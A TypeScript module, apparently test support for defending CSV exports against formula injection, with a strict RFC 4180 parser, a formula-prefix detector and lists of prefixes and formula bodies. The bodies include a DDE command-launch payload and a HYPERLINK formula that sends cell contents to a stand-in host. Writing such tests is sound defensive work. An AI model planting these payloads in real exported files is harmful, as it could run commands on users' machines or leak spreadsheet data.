/** Cells that spreadsheet programs take for formulas, and a reader that does not share a line with the writer. */

/** A strict reader of RFC 4180, written from its grammar. */
export function readCsv(text: string): string[][] {
  const records: string[][] = []
  let at = 0
  while (at < text.length) {
    const record: string[] = []
    for (;;) {
      let value = ''
      if (text[at] === '"') {
        at++
        for (;;) {
          if (at >= text.length) throw new Error('a quote is not closed')
          if (text[at] !== '"') value += text[at++]
          else if (text[at + 1] === '"') {
            value += '"'
            at += 2
          } else break
        }
        at++
      } else while (at < text.length && !',\r\n"'.includes(text[at] as string)) value += text[at++]
      record.push(value)
      if (text[at] === ',') at++
      else if (text.startsWith('\r\n', at)) break
      else throw new Error(`neither a comma nor the end of a line at ${at}`)
    }
    at += 2
    records.push(record)
  }
  return records
}

/** What Excel, LibreOffice and Google's sheets take for a formula when it stands at the beginning of a cell, blanks aside. */
export const looksLikeFormula = (cell: string) => /^[\s\0\u200b\ufeff\u00a0]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n]/.test(cell)

export const formulaStarts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '\u3000＝',
  "'=",
  "''",
  '"=',
  ',=',
  ';=',
  '|=',
  '\u202e=',
]
export const formulaRests = [
  '1+1',
  'cmd|" /C calc"!A0',
  'HYPERLINK("http://x.example?"&A1,"a")',
  'SUM(1;2)',
  '',
  '"',
  '""',
  '\r\n=1+1',
  ',=1+1',
  ';=1+1',
  '\t=1+1',
  '<b>',
  'ό,τι',
  'a"b,c\nd',
]
